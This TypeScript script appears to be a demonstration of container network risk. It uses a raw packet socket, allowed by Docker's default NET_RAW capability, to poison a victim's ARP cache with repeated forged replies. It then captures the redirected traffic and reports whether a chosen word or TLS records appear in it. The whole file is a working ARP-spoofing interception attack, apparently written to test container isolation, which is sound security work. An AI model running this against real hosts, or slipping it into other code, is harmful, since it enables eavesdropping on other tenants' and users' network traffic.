/**
 * What a container may do that has nothing but Docker's default capabilities, NET_RAW among them: it tells a victim again
 * and again that the address of another is its own (ARP), lets the kernel pass on what comes, and looks at it.
 * `eavesdrop.ts VICTIM ADDRESS SECONDS WORD` prints what it saw as JSON.
 */
import { dlopen } from 'node:ffi';
import { networkInterfaces } from 'node:os';
import { setTimeout as sleep } from 'node:timers/promises';

const AF_PACKET = 17;
const SOCK_RAW = 3;
/** ETH_P_ALL, in network order. */
const ALL_PROTOCOLS = 0x0300;
const MSG_DONTWAIT = 0x40;
const ARP_AGAIN_MS = 150;

const { functions } = dlopen('libc.so.6', {
  socket: { arguments: ['i32', 'i32', 'i32'], return: 'i32' },
  if_nametoindex: { arguments: ['buffer'], return: 'i32' },
  sendto: { arguments: ['i32', 'buffer', 'u64', 'i32', 'buffer', 'i32'], return: 'i64' },
  recv: { arguments: ['i32', 'buffer', 'u64', 'i32'], return: 'i64' },
});
type Call = (...args: (number | bigint | Buffer)[]) => number | bigint;
const libc = functions as unknown as Readonly<Record<string, Call>>;
const call = (name: string, ...args: (number | bigint | Buffer)[]) => Number(libc[name]?.(...args) ?? -1);

const [victim = '', address = '', seconds = '5', word = ''] = process.argv.slice(2);
const [device, own] = Object.entries(networkInterfaces()).find(([name]) => name !== 'lo') ?? ['eth0', []];
const mac = Buffer.from((own?.[0]?.mac ?? '').replaceAll(':', ''), 'hex');
const bytesOf = (ip: string) => Buffer.from(ip.split('.').map(Number));

const fd = call('socket', AF_PACKET, SOCK_RAW, ALL_PROTOCOLS);
if (fd < 0) throw new Error('no raw socket');

/** "`address` is at my MAC", to everybody. */
const everybody = Buffer.alloc(6, 0xff);
const lie = Buffer.concat([
  ...[everybody, mac, Buffer.from([0x08, 0x06]), Buffer.from([0, 1, 8, 0, 6, 4, 0, 2])],
  ...[mac, bytesOf(address), everybody, bytesOf(victim)],
]);
/** `struct sockaddr_ll`. */
const target = Buffer.alloc(20);
target.writeUInt16LE(AF_PACKET, 0);
target.writeInt32LE(call('if_nametoindex', Buffer.from(`${device}\0`)), 4);
target[11] = 6;
everybody.copy(target, 12);

const seen = { packets: 0, word: false, tls: false };
const frame = Buffer.alloc(65536);

function look(length: number): void {
  const isMine = frame.subarray(0, 6).equals(mac) && frame.readUInt16BE(12) === 0x0800 && frame[23] === 6;
  if (!isMine || !frame.subarray(26, 30).equals(bytesOf(victim))) return;
  if (!frame.subarray(30, 34).equals(bytesOf(address))) return;
  const ip = 14;
  const tcp = ip + ((frame[ip] ?? 0) & 0x0f) * 4;
  const payload = frame.subarray(tcp + ((frame[tcp + 12] ?? 0) >> 4) * 4, ip + frame.readUInt16BE(ip + 2));
  if (payload.length === 0 || length < tcp) return;
  seen.packets += 1;
  seen.word ||= payload.includes(word);
  // A record of TLS: handshake or data, of version 3.x.
  seen.tls ||= (payload[0] === 0x16 || payload[0] === 0x17) && payload[1] === 3;
}

const endsAt = Date.now() + Number(seconds) * 1000;
for (let liedAt = 0; Date.now() < endsAt; ) {
  if (Date.now() - liedAt >= ARP_AGAIN_MS) {
    liedAt = Date.now();
    call('sendto', fd, lie, BigInt(lie.length), 0, target, target.length);
  }
  const length = call('recv', fd, frame, BigInt(frame.length), MSG_DONTWAIT);
  if (length > 0) look(length);
  else await sleep(1);
}
console.log(JSON.stringify(seen));
